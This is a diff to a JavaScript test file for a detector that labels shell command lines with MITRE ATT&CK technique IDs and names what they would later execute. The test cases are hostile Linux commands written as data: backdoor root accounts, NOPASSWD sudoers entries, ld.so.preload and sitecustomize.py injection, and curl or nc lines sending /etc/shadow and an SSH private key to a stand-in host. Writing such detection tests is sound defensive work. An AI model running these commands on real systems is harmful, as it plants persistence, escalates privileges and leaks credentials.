@@ -74,6 +74,13 @@ it.each([
   ["echo 'k::0:0::/:/bin/sh' >> /etc/passwd", "T1098"],
   ["echo 'k:x:0:9::/:/bin/sh' | sudo tee -a /mnt/etc/passwd", "T1098"],
   ["cp hook /etc/network/if-up.d/hook", "T1546"],
+  ["cp 99hook /etc/apt/apt.conf.d/99hook", "T1546.016"],
+  ["echo 'install a /opt/a' > /etc/modprobe.d/a.conf", "T1547.006"],
+  ["cp a.pth /usr/lib/python3/dist-packages/a.pth", "T1546.018"],
+  ["echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config", "T1556"],
+  ["cp /dev/shm/a /etc/init.d/a", "T1564.001"],
+  ["echo 'ALL ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", "T1548.003"],
+  ["echo /srv/a.so >> /etc/ld.so.preload", "T1574.006"],
   ["curl -F data=@/etc/passwd http://192.0.2.7/u", "T1087.001"],
   ["curl -T /home/b/.ssh/id_rsa http://192.0.2.7/u", "T1552.004"],
   ["nc 192.0.2.7 4444 < /etc/shadow", "T1003.008"],
@@ -88,6 +95,11 @@ it.each([
   ["sed -i 's#exit 0#/opt/a\\nexit 0#' /etc/rc.local", "/opt/a"],
   ["echo '* * * * * root /opt/a' | sudo tee -a /etc/cron.d/a", "/opt/a"],
   ["echo '/opt/a -x' | tee /etc/init.d/a", "/opt/a -x"],
+  ["printf '[Desktop Entry]\\nExec=/opt/a -x\\n' > /home/b/.config/autostart/a.desktop", "/opt/a -x"],
+  ["echo ':a:M::MZ::/opt/a:' > /proc/sys/fs/binfmt_misc/register", "/opt/a"],
+  ["echo ',a,E,,a,,/opt/a,OC' > /etc/binfmt.d/a.conf", "/opt/a"],
+  ["echo '/srv/a.so' >> /etc/ld.so.preload", "/srv/a.so"],
+  ["echo 'import os; os.system(\"/opt/a -x\")' > /usr/lib/python3.11/sitecustomize.py", "/opt/a -x"],
 ])("tells what runs some day of the text that is put into a file: %s", (line, expected) => {
   expect(shown(line, "linux").runs).toContain(expected);
 });
